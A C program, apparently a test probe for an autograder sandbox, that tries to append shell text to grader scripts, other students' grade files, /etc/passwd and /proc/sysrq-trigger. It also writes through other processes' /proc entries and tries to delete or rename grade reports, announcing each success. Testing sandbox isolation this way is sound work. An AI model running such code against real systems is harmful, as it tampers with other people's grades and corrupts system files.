// 03: writes to the grader, to the observer, to other people's grades
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static const char *const files[] = {
    "@ROOT@/common/grade/grade.sh",
    "@ROOT@/common/grade/grade.bash",
    "@ROOT@/tests/exercises/03-joined-fork.bats",
    "@ROOT@/build/observe",
    "@REPORT@/anna/03-joined-fork.rows",
    "@REPORT@/anna/03-joined-fork.json",
    "@REPORT@/grades.csv",
    "@CLASS@/anna/03.c",
    "@SECRET@",
    "/course/common/grade/grade.sh",
    "/course/build/observe",
    "/result/rows",
    "/submission/03-joined-fork.c",
    "../facts",
    "../json",
    "../out",
    "../../facts",
    "../../../passed/it-runs",
    "../../passed/it-runs",
    "/etc/passwd",
    "/usr/bin/bats",
    "/usr/bin/cc",
    "/proc/sys/kernel/core_pattern",
    "/proc/sysrq-trigger",
};

static void try_file(const char *path)
{
    int fd = open(path, O_WRONLY | O_APPEND | O_NONBLOCK);
    if (fd == -1)
        fd = open(path, O_WRONLY | O_CREAT | O_NONBLOCK, 0666);
    if (fd == -1)
        return;
    if (write(fd, "echo stolen\n", 12) == 12)
        printf("WROTE %s\n", path);
    close(fd);
}

static void try_others(void)
{
    static const char *const ways[] = {"root@ROOT@/common/grade/grade.sh",
                                       "root@REPORT@/grades.csv",
                                       "cwd/grades.csv", "root/result/rows"};
    DIR *processes = opendir("/proc");
    struct dirent *entry;
    char path[600];
    while (processes && (entry = readdir(processes))) {
        if (atoi(entry->d_name) == getpid())
            continue;
        for (size_t i = 0; i < sizeof ways / sizeof *ways; i++) {
            snprintf(path, sizeof path, "/proc/%s/%s", entry->d_name, ways[i]);
            try_file(path);
        }
        for (int fd = 0; fd < 20; fd++) {
            snprintf(path, sizeof path, "/proc/%s/fd/%d", entry->d_name, fd);
            try_file(path);
        }
    }
}

int main(void)
{
    for (size_t i = 0; i < sizeof files / sizeof *files; i++)
        try_file(files[i]);
    try_others();
    if (unlink("@REPORT@/grades.csv") == 0 || rmdir("@REPORT@/anna") == 0)
        puts("WROTE: the report is gone");
    if (rename("@REPORT@/anna", "@REPORT@/bert") == 0 ||
        symlink("/dev/null", "@REPORT@/bert/03-joined-fork.rows") == 0 ||
        mkfifo("@REPORT@/index.html.new", 0666) == 0)
        puts("WROTE: names in the report");
    return 0;
}
